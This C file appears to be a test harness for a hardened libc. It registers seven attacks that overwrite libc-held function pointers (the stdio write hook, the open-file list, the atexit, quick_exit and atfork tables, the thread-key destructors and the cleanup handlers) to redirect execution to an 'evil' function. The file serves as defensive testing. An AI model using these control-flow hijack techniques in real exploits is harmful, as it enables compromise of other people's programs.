/* Pointers to functions that libc calls for the program. They lie in memory
 * that it has to write to, so these attacks succeed, as on upstream. */

#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void nothing(void) {}
static void nothing_with(void *arg) { (void)arg; }

/* Replace a pointer to a function that is there. */
static void replace(void *p, size_t len, const void *function)
{
	size_t at = 0;
	PUT(find_word(p, len, (uintptr_t)function, &at), evil);
}

#define FILE_LEN 200

static void file_write(void)
{
	setvbuf(stdout, 0, _IONBF, 0);
	fputs("\n", stdout);
	replace(stdout, FILE_LEN, libc_variable("__stdio_write", 0, 0));
	fputs("\n", stdout);
}

/* A forged file that has something to be written at exit: see close_file. */
static void file_list(void)
{
	void **forged = calloc(1, FILE_LEN);
	size_t at = 0;
	FILE *f = fopen("/dev/null", "w");
	fputs("text", f);
	memcpy(forged, f, FILE_LEN);
	void **p = find_word(forged, FILE_LEN,
		(uintptr_t)libc_variable("__stdio_write", 0, 0), &at);
	if (!p) _exit(ABSENT);
	*p = (void *)evil;
	PUT(libc_variable("ofl_head", 0, 0), forged);
}

/* 32 functions and their arguments; atexit's are arguments. */
static void atexit_table(void)
{
	atexit(nothing);
	replace(libc_variable("builtin", 0, 0), 65*sizeof(void *), nothing);
}

static void quick_exit_table(void)
{
	if (at_quick_exit(nothing)) _exit(99);
	replace(libc_variable("funcs", 32*sizeof(void *), 0),
		32*sizeof(void *), nothing);
	quick_exit(HELD);
}

static void atfork_list(void)
{
	pthread_atfork(nothing, 0, 0);
	void **list = libc_variable("funcs", sizeof(void *), 0);
	replace(*list, 3*sizeof(void *), nothing);
	if (!fork()) _exit(HELD);
}

static pthread_key_t key;

static void *use_key(void *arg)
{
	pthread_setspecific(key, arg);
	return arg;
}

static void key_table(void)
{
	pthread_t th;
	pthread_key_create(&key, nothing_with);
	replace(libc_variable("keys", 0, 0), 128*sizeof(void *), nothing_with);
	if (!pthread_create(&th, 0, use_key, &key)) pthread_join(th, 0);
}

/* A thread's list of handlers begins in its own structure. */
static void *cleanup(void *arg)
{
	struct __ptcb forged = { 0 };
	size_t at = 0;
	pthread_cleanup_push(nothing_with, 0);
	forged.__f = (void (*)(void *))evil;
	PUT(find_word((void *)pthread_self(), 200, (uintptr_t)&__cb, &at),
		&forged);
	pthread_exit(arg);
	pthread_cleanup_pop(0);
	return arg;
}

static void cleanup_list(void)
{
	pthread_t th;
	if (!pthread_create(&th, 0, cleanup, 0)) pthread_join(th, 0);
}

const struct attack in_libc[] = {
	{ "file_write", file_write },
	{ "file_list", file_list },
	{ "atexit_table", atexit_table },
	{ "quick_exit_table", quick_exit_table },
	{ "atfork_list", atfork_list },
	{ "key_table", key_table },
	{ "cleanup_list", cleanup_list },
	{ 0, 0 }
};
